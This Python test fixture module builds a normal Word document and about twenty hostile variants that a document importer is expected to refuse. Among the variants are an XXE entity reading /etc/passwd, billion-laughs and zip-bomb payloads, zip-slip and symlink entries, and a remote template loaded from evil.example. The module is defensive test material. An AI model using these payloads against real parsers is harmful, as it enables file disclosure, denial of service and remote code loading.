"""Word documents for the tests: a good one built with python-docx, and hostile variants of it
made by rewriting its ZIP parts (each one of the classes the importer must refuse)."""

from __future__ import annotations

import io
import struct
import zipfile
import zlib
from collections.abc import Callable
from typing import Any

R = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
PKG = "http://schemas.openxmlformats.org/package/2006/relationships"


def good_docx(*, sections: int = 2, title: str = "Evidence pack") -> bytes:
    from docx import Document

    document = Document()
    document.add_heading(title, level=0)
    document.add_paragraph("Opening words before any heading.")
    for n in range(sections):
        document.add_heading(f"Safeguarding section {n + 1}", level=1)
        paragraph = document.add_paragraph("We train every volunteer. ")
        paragraph.add_run("Outcome: 94% confident.").bold = True
        paragraph.add_run(" Checked ")
        paragraph.add_run("independently").italic = True
        document.add_paragraph("Annual refresher", style="List Bullet")
        document.add_paragraph("Named lead", style="List Bullet")
        document.add_heading("How we know", level=2)
        document.add_paragraph("Quarterly audit of training records.")
    table = document.add_table(rows=1, cols=2)
    table.rows[0].cells[0].text = "Staff trained"
    table.rows[0].cells[1].text = "212"
    out = io.BytesIO()
    document.save(out)
    return out.getvalue()


def rebuild(
    data: bytes,
    *,
    replace: dict[str, bytes] | None = None,
    add: dict[str, bytes] | None = None,
    edit: Callable[[str, bytes], bytes] | None = None,
) -> bytes:
    """The same package with parts replaced, added or edited."""
    replace, add = replace or {}, add or {}
    out = io.BytesIO()
    with (
        zipfile.ZipFile(io.BytesIO(data)) as source,
        zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as target,
    ):
        for info in source.infolist():
            body = replace.get(info.filename, source.read(info))
            if edit is not None:
                body = edit(info.filename, body)
            target.writestr(info.filename, body)
        for name, body in add.items():
            target.writestr(name, body)
    return out.getvalue()


def _add_rel(xml: bytes, rel: str) -> bytes:
    return xml.replace(b"</Relationships>", rel.encode() + b"</Relationships>")


def _doc_rels(rel: str) -> Callable[[str, bytes], bytes]:
    def edit(name: str, body: bytes) -> bytes:
        return _add_rel(body, rel) if name == "word/_rels/document.xml.rels" else body

    return edit


def _png_header(width: int, height: int) -> bytes:
    ihdr = struct.pack(">IIBBBBB", width, height, 8, 2, 0, 0, 0)
    chunk = b"IHDR" + ihdr
    return (
        b"\x89PNG\r\n\x1a\n"
        + struct.pack(">I", len(ihdr))
        + chunk
        + struct.pack(">I", zlib.crc32(chunk))
    )


def _zip(entries: list[tuple[Any, bytes]]) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as target:
        for info, body in entries:
            target.writestr(info, body)
    return out.getvalue()


def hostile_corpus() -> dict[str, tuple[bytes, str]]:
    """{class name: (file bytes, a words the refusal message must contain)}."""
    base = good_docx()
    with zipfile.ZipFile(io.BytesIO(base)) as archive:
        document = archive.read("word/document.xml")
        parts = [(i.filename, archive.read(i)) for i in archive.infolist()]
    xxe = (
        b'<?xml version="1.0"?>\n<!DOCTYPE w [<!ENTITY x SYSTEM "file:///etc/passwd">]>\n'
        + document.split(b"?>", 1)[1].replace(b"Opening words", b"&x; Opening words")
    )
    laughs = (
        b'<?xml version="1.0"?><!DOCTYPE lolz [<!ENTITY lol "lol">'
        + b"".join(
            f'<!ENTITY lol{i} "{("&lol" + str(i - 1) + ";") * 10 if i else "&lol;" * 10}">'.encode()
            for i in range(1, 10)
        )
        + b"]>"
        + document.split(b"?>", 1)[1]
    )
    macro_types = b"application/vnd.ms-word.document.macroEnabled.main+xml"
    symlink = zipfile.ZipInfo("word/media/link.png")
    symlink.external_attr = 0o120777 << 16
    slip = [(name, body) for name, body in parts] + [("../../evil.xml", b"<x/>")]
    many = [(name, body) for name, body in parts] + [
        (f"customXml/i{i}.xml", b"<x/>") for i in range(1001)
    ]
    bomb = [(name, body) for name, body in parts] + [("word/media/big.bin", b"\0" * (51 << 20))]
    encrypted = (
        b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1"
        + b"\0" * 64
        + "EncryptedPackage".encode("utf-16-le")
        + b"\0" * 512
    )
    return {
        "xxe": (rebuild(base, replace={"word/document.xml": xxe}), "DOCTYPE"),
        "billion-laughs": (rebuild(base, replace={"word/document.xml": laughs}), "DOCTYPE"),
        "doctype-utf16": (
            rebuild(
                base,
                replace={
                    "word/document.xml": xxe.decode()
                    .replace('version="1.0"', 'version="1.0" encoding="UTF-16"')
                    .encode("utf-16")
                },
            ),
            "DOCTYPE",
        ),
        "attached-template": (
            rebuild(
                base,
                add={
                    "word/_rels/settings.xml.rels": (
                        f'<?xml version="1.0"?><Relationships xmlns="{PKG}">'
                        '<Relationship Id="rId1" '
                        f'Type="{R}/attachedTemplate" '
                        'Target="https://evil.example/t.dotm" '
                        'TargetMode="External"/></Relationships>'
                    ).encode()
                },
            ),
            "template",
        ),
        "external-image": (
            rebuild(
                base,
                edit=_doc_rels(
                    f'<Relationship Id="rId99" Type="{R}/image" '
                    'Target="http://tracker.example/pixel.png" TargetMode="External"/>'
                ),
            ),
            "picture loaded from outside",
        ),
        "file-hyperlink": (
            rebuild(
                base,
                edit=_doc_rels(
                    f'<Relationship Id="rId98" Type="{R}/hyperlink" '
                    'Target="file:///C:/Windows/win.ini" TargetMode="External"/>'
                ),
            ),
            "local or network file",
        ),
        "macro-content-type": (
            rebuild(
                base,
                edit=lambda n, b: (
                    b.replace(
                        b"application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml",
                        macro_types,
                    )
                    if n == "[Content_Types].xml"
                    else b
                ),
            ),
            "macro-enabled",
        ),
        "vba-project": (rebuild(base, add={"word/vbaProject.bin": b"\0" * 64}), "VBA project"),
        "ole-object": (
            rebuild(base, add={"word/embeddings/oleObject1.bin": b"\x01\x02" * 32}),
            "OLE objects",
        ),
        "alt-chunk": (
            rebuild(
                base,
                edit=lambda n, b: (
                    b.replace(
                        b"</w:body>", f'<w:altChunk xmlns:r="{R}" r:id="rId97"/></w:body>'.encode()
                    )
                    if n == "word/document.xml"
                    else b
                ),
            ),
            "altChunk",
        ),
        "activex": (rebuild(base, add={"word/activeX/activeX1.xml": b"<ax/>"}), "ActiveX"),
        "binary-doc-renamed": (b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 1024, ".doc"),
        "encrypted": (encrypted, "password"),
        "malformed-xml": (
            rebuild(base, replace={"word/document.xml": document[:-40]}),
            "not well-formed XML",
        ),
        "zip-slip": (_zip(slip), "unsafe name"),
        "symlink": (_zip([*parts, (symlink, b"/etc/passwd")]), "link to another file"),
        "too-many-entries": (_zip(many), "parts inside"),
        "zip-bomb": (_zip(bomb), "expands to more than"),
        "nested-archive": (
            rebuild(base, add={"word/embeddings/pack.zip": _zip([("a", b"a")])}),
            "another archive",
        ),
        "huge-image": (
            rebuild(base, add={"word/media/image9.png": _png_header(20000, 20000)}),
            "pixels",
        ),
        "not-a-zip": (b"Just some text pretending to be Word.", "not a Word document"),
    }
